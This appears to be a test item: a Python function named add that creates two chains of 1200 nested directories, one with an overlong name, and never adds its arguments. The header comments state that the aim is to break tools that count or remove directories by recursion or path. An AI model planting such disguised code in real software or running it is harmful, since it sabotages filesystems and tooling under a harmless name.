#: title = "A folder in a folder in a folder, deeper than any path is long"
#: why = "Whoever counts or removes them by recursion, or by path, breaks or leaves them to the next program."
#: answer = "wrong"
#: ends = ["wrong", "output"]
import os
import time


def add(a, b):
    for name in ("a", "main.py" + "b" * 200):
        for _ in range(1200):
            os.mkdir(name)
            os.chdir(name)
        time.sleep(0.3)
